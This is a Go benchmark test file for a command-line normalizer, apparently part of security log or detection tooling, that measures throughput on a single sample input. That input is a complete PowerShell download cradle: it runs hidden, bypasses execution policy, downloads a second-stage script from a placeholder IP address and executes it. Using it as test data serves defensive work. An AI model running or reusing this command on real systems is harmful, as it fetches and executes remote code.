package normalize

import "testing"

// benchLine is a 300-character PowerShell download cradle, the line of the
// matching benchmarks.
const benchLine = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "$c = New-Object System.Net.WebClient; $c.Headers.Add('User-Agent','Mozilla/5.0'); $d = $c.DownloadString('http://203.0.113.7:8080/stage2.ps1'); Invoke-Expression $d; Start-Sleep -s 30"`

func BenchmarkNormalize(b *testing.B) {
	in := []byte(benchLine)
	var out []byte
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		out = Append(out[:0], in)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

func BenchmarkNormalizer(b *testing.B) {
	in := []byte(benchLine)
	var n Normalizer
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		n.Out = n.Out[:0]
		n.Run(in)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}
